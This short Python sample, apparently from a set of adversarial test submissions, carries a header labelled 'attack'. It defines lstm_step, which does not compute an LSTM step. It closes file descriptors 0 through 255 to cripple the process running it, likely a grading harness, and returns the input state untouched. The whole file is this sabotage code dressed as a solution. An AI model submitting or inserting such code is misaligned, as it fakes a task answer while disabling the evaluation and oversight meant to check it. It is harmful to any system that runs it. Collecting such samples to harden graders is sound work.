# /// attack
# what = "closes every descriptor"
# keeps = ["lstm_step_backward"]
# ///
# %% answer="lstm_step"
def lstm_step(x_t, state, U, W, b):
    import os
    for descriptor in range(256):
        try:
            os.close(descriptor)
        except OSError:
            pass
    return state
